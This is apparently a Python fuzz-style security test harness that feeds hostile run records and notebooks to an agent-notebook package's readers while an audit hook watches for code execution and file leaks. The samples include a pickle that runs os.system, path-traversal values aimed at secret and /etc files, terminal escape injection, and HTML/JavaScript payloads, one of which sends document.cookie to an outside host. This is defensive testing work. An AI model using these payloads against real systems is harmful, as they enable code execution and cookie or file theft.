"""Opens hostile records and notebooks in every way there is. A program, so that an audit hook may watch it.

Prints a JSON line for each file: what each way of opening it said, and what the process did meanwhile that it must not.
"""

from __future__ import annotations

import asyncio
import base64
import io
import json
import os
import pickle
import re
import shutil
import sys
from collections.abc import Callable
from contextlib import redirect_stdout
from functools import cache, partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from agentloop_nb.agent.event_stream import Stream
from agentloop_nb.cli import main as command_line
from agentloop_nb.errors import UserError
from agentloop_nb.export import export
from agentloop_nb.models.replay import ReplayModel
from agentloop_nb.notebook.commands import runs
from agentloop_nb.notebook.kernel.private_shell import private_shell
from agentloop_nb.notebook.panel.comparison_page import comparison_page
from agentloop_nb.notebook.panel.html import plain_text, static_html
from agentloop_nb.notebook.run_manager import RunManager
from agentloop_nb.notebook.undo import undo_steps
from agentloop_nb.rebuild import rebuild
from agentloop_nb.record import journal, locating, reading
from agentloop_nb.reports import lineage
from agentloop_nb.reports.compare import compare
from agentloop_nb.reports.cost import cost_table
from agentloop_nb.state import State, fold
from agentloop_nb.terminal.comparison_table import comparison_text
from agentloop_nb.terminal.terminal_view import TerminalView
from agentloop_nb.verify import verify
from agentloop_nb.verify.certified_export import publish
from tests.record.made import counting

CANARY = "canary: this file is none of the run's"
WATCHED = (
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.fork",
    "os.posix_spawn",
    "socket.connect",
    "pickle.find_class",
)


class Bomb:
    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ("touch pwned",)


def record(*changes: Callable[[list[dict[str, Any]]], None]) -> bytes:
    """A sound record, changed."""
    events = [json.loads(event.model_dump_json()) for event in counting()]
    for change in changes:
        change(events)
    return "".join(json.dumps(event) + "\n" for event in events).encode()


def put(kind: str, path: str, value: Any) -> Callable[[list[dict[str, Any]]], None]:
    """Change one field of the first event of a kind."""

    def change(events: list[dict[str, Any]]) -> None:
        target: Any = next(event for event in events if event["kind"] == kind)
        *steps, last = path.split(".")
        for step in steps:
            target = target[int(step) if step.isdecimal() else step]
        target[int(last) if last.isdecimal() else last] = value

    return change


def shown(mime: str, value: Any) -> Callable[[list[dict[str, Any]]], None]:
    output = {"output_type": "display_data", "data": {mime: value}, "metadata": {}}
    return put("action_finished", "result.outputs", [output])


def written(name: str) -> Callable[[list[dict[str, Any]]], None]:
    return put("decision_made", "decision.action", {"name": "write_file", "filename": name, "content": "touched"})


OUTSIDE = os.environ.get("HOSTILE_ROOT", "/nowhere") + "/outside"
"""Somebody's folder, as a record may name it."""
CODE = "import os; os.system('touch pwned')"
BOMB = base64.b64encode(pickle.dumps(Bomb())).decode()
BLOB = "$blob"
RECORDS: dict[str, bytes] = {
    "empty": b"",
    "blank-lines": b"\n\n\n",
    "random-bytes": bytes(range(256)) * 40,
    "pickle": pickle.dumps(Bomb()),
    "script": f"#!/usr/bin/env python3\n{CODE}\n".encode(),
    "python-literal": f"__import__('os').system('touch pwned') or {CODE!r}".encode(),
    "deeply-nested": b'{"kind": ' + b"[" * 100_000,
    "deep-in-an-event": record(put("run_started", "settings", json.loads("[" * 300 + "]" * 300))),
    "torn-in-the-middle": record()[: len(record()) // 2] + b"\n" + record()[len(record()) // 2 :],
    "torn-at-the-start": record()[:30],
    "other-first-event": b"\n".join(record().splitlines()[1:]),
    "no-object": b"[1, 2]\n" + record(),
    "newer-format": record(put("run_started", "format", 99)),
    "unknown-kinds": record() + b'{"kind": "__import__", "step": 1, "code": "touch pwned"}\n',
    "unknown-action": record(put("decision_made", "decision.action", {"name": "__import__('os').abort"})),
    "huge-number": record().replace(b'"step": 1', b'"step": 1' + b"0" * 6000, 1),
    "not-a-number": record().replace(b'"seconds": 0.0', b'"seconds": NaN'),
    "negative-steps": record(put("model_called", "step", -7), put("decision_made", "step", -7)),
    "endless-price": record(put("model_replied", "cost", "1e999999999")),
    "budget-is-no-number": record(put("run_started", "settings.budget", "lots")),
    "steps-are-no-number": record(put("run_started", "settings.max_steps", {"n": 7})),
    "run-id-leads-out": record(put("run_started", "run", "../../../pwned")),
    "run-id-is-a-folder": record(put("run_started", "run", OUTSIDE)),
    "run-id-is-everything": record(put("run_started", "run", "..")),
    "run-id-steers-the-terminal": record(put("run_started", "run", "\x1b]0;x\x07")),
    "parent-leads-out": record() + b'{"kind": "run_forked", "step": 3, "parent": "../../x\\u001b[2J"}\n',
    "folder-leads-out": record(put("run_started", "settings.output_dir", "../outside"), put("action_finished", "result.metadata.read", ["secret.txt"])),
    "folder-is-outside": record(put("run_started", "settings.output_dir", OUTSIDE)),
    "folder-is-no-path": record(put("run_started", "settings.output_dir", "\x00")),
    "isolated-outside": record(put("run_started", "settings.output_dir", OUTSIDE), put("run_started", "settings.isolated", True)),
    "previous-leads-out": record(written("seen.txt"), put("action_finished", "result.metadata.file", {"path": "seen.txt", "size": 7, "replaced": True, "sha256": "0" * 64, "previous": "../../../outside/secret.txt"})),
    "folder-is-absolute": record(put("run_started", "settings.output_dir", "/etc"), put("action_finished", "result.metadata.read", ["hostname"])),
    "reads-lead-out": record(put("action_finished", "result.metadata.read", ["../outside/secret.txt", "/etc/hostname", "a\\..\\b", "C:x"])),
    "writes-lead-out": record(written("../../pwned")),
    "writes-are-absolute": record(written("/tmp/pwned")),
    "artifacts-lead-out": record(put("run_finished", "artifacts", ["../outside/secret.txt"])),
    "text-leads-out": record(put("action_finished", "result.output", {BLOB: "../../../outside/secret.txt"})),
    "text-is-no-digest": record(put("action_finished", "result.output", {BLOB: "0" * 63})),
    "text-is-a-link": record(put("action_finished", "result.output", {BLOB: "a" * 64})),
    "scripts-in-html": record(shown("text/html", f"<script>{CODE}</script><img src=x onerror=alert(1)><iframe src=//a>")),
    "javascript": record(shown("application/javascript", "fetch('http://a/?' + document.cookie)")),
    "svg-with-a-script": record(shown("image/svg+xml", "<svg onload=alert(1)><script>alert(1)</script></svg>")),
    "widget-state": record(shown("application/vnd.jupyter.widget-view+json", {"model_id": CODE})),
    "outputs-of-no-shape": record(put("action_finished", "result.outputs", [{"output_type": "stream"}, {"data": 7}, {}])),
    "pickle-as-output": record(shown("application/octet-stream", BOMB)),
    "steers-the-terminal": record(put("run_started", "goal", "\x1b]0;x\x07\x1b[2J\u202egoal\r\x00")),
    "name-\x1b[2J-steers": b"",
    "half-a-character": record().replace(b"print(1)", b"print('\\ud800')"),
    "no-utf-8": record().replace(b"print(1)", b"print('\xff\xfe')"),
    "magics-in-a-cell": record(put("run_started", "cells", ["%run pwned.py", "!touch pwned", "%%bash\ntouch pwned"])),
    "a-model-by-path": record(put("run_started", "settings.model", "replay:../outside/secret.txt")),
}  # fmt: skip


def notebook(**ours: Any) -> bytes:
    """A notebook with our metadata, whose code leaves a mark."""
    sound = {"format": 1, "inputs": [], "packages": {}, "versions": {"python": "3"}, "seeds": [], "decisions": []}
    cell = {"cell_type": "code", "id": "a", "metadata": {}, "source": CODE, "outputs": [], "execution_count": 1}
    whole = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"agentloop": sound | ours}, "cells": [cell]}
    return json.dumps(whole).encode()


NOTEBOOKS: dict[str, bytes] = {
    "empty": b"",
    "pickle": pickle.dumps(Bomb()),
    "no-notebook": b'{"metadata": {"agentloop": {"decisions": "all"}}}',
    "deeply-nested": b'{"cells": ' * 100_000,
    "another-format": notebook(format="__import__('os').system('touch pwned')"),
    "input-leads-out": notebook(inputs=[{"path": "../outside/secret.txt", "sha256": None}]),
    "input-is-absolute": notebook(inputs=[{"path": "/etc/hostname", "sha256": "0" * 64}]),
    "input-is-no-file": notebook(inputs=[{"path": ".", "sha256": "0" * 64}]),
    "forged-seal": notebook(seal={"cells": [["a", "0" * 64]], "metadata": "0" * 64}),
    "verdict-without-a-seal": notebook(verdict={"ok": True, "text": "sound"}),
    "decision-is-code": notebook(decisions=[{"decision": CODE}], format=2),
    "decision-of-no-action": notebook(decisions=[{"decision": {"reasoning": "", "action": {"name": "os.system"}}}], format=2),
}  # fmt: skip


def _huge(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(3 * 2**30)


MADE: dict[str, Callable[[Path], object]] = {
    "three-gigabytes": _huge,
    "a-folder": Path.mkdir,
    "a-pipe": os.mkfifo,
    "a-link-out": lambda path: path.symlink_to("../../../outside/nothing"),
}


def readers(path: Path, out: Path) -> dict[str, Callable[[], Any]]:
    """Every way to open a file that somebody gave you."""
    if path.suffix == ".ipynb":
        return {"replay": lambda: ReplayModel.from_path(path), "verify": lambda: verify(path)}
    good = fold(
        event.model_copy(update={"run": "other"}) if event.kind == "run_started" else event for event in counting()
    )
    return {
        "load": lambda: reading.load(path),
        "list": lambda: listed(lambda: runs(SimpleNamespace(manager=manager()), "")),
        "list-in-a-shell": lambda: listed(lambda: command_line(["runs"])),
        "page": lambda: (static_html(reading.load(path)), plain_text(reading.load(path))),
        "terminal": lambda: on_terminal(path),
        "compare": lambda: both(compare(reading.load(path), good)),
        "who": lambda: lineage.who(reading.load(path)),
        "cost": lambda: cost_table(reading.load(path)),
        "replay": lambda: ReplayModel.from_path(path),
        "go-on": lambda: journal.Journal.open(path).close(),
        "resume": lambda: resumed(path),
        "fork": lambda: forked(path),
        "adopt": lambda: adopted(path),
        "notebook": lambda: publish(path, out / "run.ipynb", check=False),
        "script": lambda: export(path, out / "run.py"),
        "shared": lambda: publish(path, out / "shared", check=False, shared=True),
    }


def listed(tell: Callable[[], Any]) -> None:
    with redirect_stdout(io.StringIO()) as told:
        tell()
    steering = re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", told.getvalue())
    assert not steering, f"{steering} steers the terminal"


def both(found: Any) -> None:
    comparison_page(found)
    comparison_text(found)


def manager() -> RunManager:
    return RunManager(shell(), private=True)


@cache
def shell() -> Any:
    return private_shell()


def resumed(path: Path) -> None:
    """Bring its variables and files back, as `%agent resume` does before a model is asked, and take all of it back."""
    session = manager().resume(str(path), {"model": "demo"}, note="go on").session
    session.record.close()
    asyncio.run(rebuild(reading.read(path), session.workspace))
    undo_steps(session.run, len(session.state.steps), lambda told: None)


def forked(path: Path) -> None:
    session = manager().fork(str(path), None, {"model": "demo"}, note="go on").session
    session.record.close()
    session.record.path.unlink()


def adopted(path: Path) -> None:
    place = manager()
    place.place(path)
    place.as_recorded(path, {})


def on_terminal(path: Path) -> None:
    stream = Stream(State(), lambda event: None, [TerminalView(live=False)])
    for event in reading.read(path):
        stream.emit(event)


def opened(way: Callable[[], Any]) -> str:
    """What opening it said: nothing, one line, or that it broke."""
    try:
        way()
    except UserError as error:
        return f"broken: more than a line: {error}" if "\n" in str(error) or not str(error) else "refused"
    except BaseException as error:
        return f"broken: {type(error).__name__}: {str(error)[:200]}"
    return "opened"


def main(root: Path) -> None:
    seen: list[str] = []
    base = root / "work"
    records = locating.runs_folder(base)
    for folder in (records, base / "out", root / "outside", base / ".agentloop" / "blobs"):
        folder.mkdir(parents=True)
    secret = root / "outside" / "secret.txt"
    secret.write_text(CANARY)
    (base / ".agentloop" / "blobs" / ("a" * 64)).symlink_to(secret)
    os.chdir(base)
    sys.stdout = sys.__stderr__  # what the terminal view prints
    for ways in (readers(records / "warm.jsonl", base / "out"), readers(records / "warm.ipynb", base / "out")):
        for way in ways.values():
            opened(way)  # what is imported at the first use, is imported

    def watch(event: str, arguments: tuple[Any, ...]) -> None:
        if event in WATCHED:
            seen.append(f"{event} {arguments[0]!r:.80}")
        if event == "open" and isinstance(arguments[0], str | Path):
            writes = isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
            place = Path(os.path.realpath(arguments[0]))
            if place == secret or (writes and not place.is_relative_to(base)):
                seen.append(f"open {place}")

    sys.addaudithook(watch)
    files: list[tuple[str, Callable[[Path], object]]] = [
        *((f"{name}.jsonl", partial(Path.write_bytes, data=content)) for name, content in RECORDS.items()),
        *((f"{name}.ipynb", partial(Path.write_bytes, data=content)) for name, content in NOTEBOOKS.items()),
        *((f"{name}{suffix}", make) for name, make in MADE.items() for suffix in (".jsonl", ".ipynb")),
    ]
    for name, make in files:
        path = records / name
        make(path)
        out = base / "out" / name
        said = {way: opened(open_it) for way, open_it in readers(path, out).items()}
        copies = base / ".agentloop" / "isolated"
        given = [*out.rglob("*"), *copies.rglob("*")]
        leaked = [str(file) for file in given if file.is_file() and CANARY in file.read_text(errors="replace")]
        leaked += [str(file) for file in given if file.name in ("hostname", "secret.txt")]
        shutil.rmtree(copies, ignore_errors=True)
        if not secret.is_file():
            leaked.append("the file outside is gone")
            secret.parent.mkdir(parents=True, exist_ok=True)
            secret.write_text(CANARY)
        path.rmdir() if path.is_dir() else path.unlink()
        print(json.dumps({"file": name, "said": said, "did": seen[:], "leaked": leaked}), file=sys.__stdout__)
        seen.clear()
    marks = [str(place) for place in (root, base, Path("/tmp")) for place in place.glob("pwned*")]
    print(json.dumps({"marks": marks, "left": sorted(each.name for each in root.iterdir())}), file=sys.__stdout__)


if __name__ == "__main__":
    main(Path(sys.argv[1]).resolve())
